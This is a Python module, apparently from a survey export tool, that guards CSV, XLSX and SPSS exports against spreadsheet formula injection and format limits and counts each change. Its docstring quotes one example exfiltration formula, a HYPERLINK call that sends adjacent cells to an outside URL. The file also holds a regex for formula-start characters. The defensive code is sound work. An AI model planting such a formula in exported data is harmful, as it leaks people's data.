"""How an answer is written into a cell of each export format, and what had to change on the
way — said, never silent.

Any enumerator, or any phone, can type an answer that a spreadsheet would run: ``=HYPERLINK(
"http://…"&C2&D2)`` opened by the Secretariat leaks the cells beside it. So:

- XLSX: every text is a text cell, never a formula or an error value (``=…``, ``#N/A``); the
  characters XML cannot hold (control characters) are written as their visible symbols
  (U+0001 as ␁), and a text longer than Excel's 32,767 characters is cut there.
- CSV: by default guarded as OWASP recommends — a text beginning with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return (after any spaces) gets a ``'`` before it, never a number
  such as ``-5``; ``raw`` writes the text as typed, for analysts who read it with a program.
- SPSS: a text is at most 32,767 bytes (its longest string variable); a longer one is cut at
  a character's end.

Each change is counted per table and column (:class:`Notes`), written in the codebook's
``notes`` column and in the server's log — the counts, never the values."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable

# what a spreadsheet reads as the start of a formula (OWASP's CSV injection list)
FORMULA_START = re.compile(r"[ \u00a0]*[=+\-@\t\r]")
NUMBER = re.compile(r"[ \u00a0]*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?[ \u00a0]*")
# the characters XML 1.0 (so XLSX) cannot hold: openpyxl refuses a whole workbook for one
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_LONGEST = 32_767  # characters in one Excel cell
SAV_LONGEST = 32_767  # bytes in one SPSS string value
ERROR_VALUES = {"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"}

GUARDED = (
    "began with = + - @ tab or CR: written with a ' before it (export raw for the text as typed)"
)
SYMBOLS = "held control characters, which XLSX cannot: written as their symbols (U+0001 as ␁)"
CUT_XLSX = f"longer than Excel's {XLSX_LONGEST:,} characters: cut there"
CUT_SAV = f"longer than SPSS's {SAV_LONGEST:,} bytes: cut there"
NUL = "held a NUL character, which Stata and SPSS end a text at: written as ␀"


class Notes:
    """What had to change, counted by (table, column, what)."""

    def __init__(self) -> None:
        self.counts: Counter[tuple[str, str, str]] = Counter()

    def add(self, table: str, column: str, what: str, n: int = 1) -> None:
        self.counts[(table, column, what)] += n

    def merge(self, other: Notes | dict) -> None:
        items = other.counts.items() if isinstance(other, Notes) else other.items()
        for key, n in items:
            self.counts[tuple(key)] += n  # type: ignore[index]

    def plain(self) -> list[tuple[tuple[str, str, str], int]]:
        """As plain data (a part's helper process sends it back through a queue)."""
        return list(self.counts.items())

    def of(self, table: str, column: str) -> str:
        """The column's notes, for the codebook ("" when nothing changed)."""
        return "; ".join(
            f"{n} value{'s' if n != 1 else ''} {what}"
            for (t, c, what), n in sorted(self.counts.items())
            if t == table and c == column
        )

    def lines(self) -> list[str]:
        return [f"{t}.{c}: {n} {what}" for (t, c, what), n in sorted(self.counts.items())]


def csv_guarded(text: str) -> str | None:
    """``text`` with the ``'`` a spreadsheet needs to read it as text, or None when it needs
    none (a number such as -5 or +3.5 never gets one)."""
    if not FORMULA_START.match(text) or NUMBER.fullmatch(text):
        return None
    return "'" + text


def csv_row(row: Iterable[object], header: list[str], table: str, notes: Notes) -> list[object]:
    """A row of cells as the CSV writer takes them, guarded."""
    out: list[object] = []
    for value, column in zip(row, header, strict=True):
        if value is None:
            out.append("")
        elif type(value) is str and value and FORMULA_START.match(value):
            guarded = csv_guarded(value)
            if guarded is not None:
                notes.add(table, column, GUARDED)
                value = guarded
            out.append(value)
        else:
            out.append(value)
    return out


def csv_plain(row: Iterable[object]) -> list[object]:
    """A row of text no answer wrote (the codebook's labels come from the form), guarded
    without notes."""
    return [
        (csv_guarded(v) or v) if type(v) is str and v and FORMULA_START.match(v) else v for v in row
    ]


def xlsx_text(value: str) -> tuple[str, list[str]]:
    """A text as an XLSX cell can hold it, and what changed."""
    changed = []
    if CONTROL.search(value):
        value = CONTROL.sub(lambda m: chr(0x2400 + ord(m.group())), value)
        changed.append(SYMBOLS)
    if len(value) > XLSX_LONGEST:
        value = value[:XLSX_LONGEST]
        changed.append(CUT_XLSX)
    return value, changed


def needs_text_cell(value: str) -> bool:
    """A text openpyxl would otherwise write as a formula or an error value."""
    return (len(value) > 1 and value[0] == "=") or value in ERROR_VALUES


def sav_text(value: str) -> tuple[str, bool]:
    """A text as an SPSS string value can hold it (whole characters), and whether it was cut."""
    encoded = value.encode("utf-8")
    if len(encoded) <= SAV_LONGEST:
        return value, False
    return encoded[:SAV_LONGEST].decode("utf-8", "ignore"), True
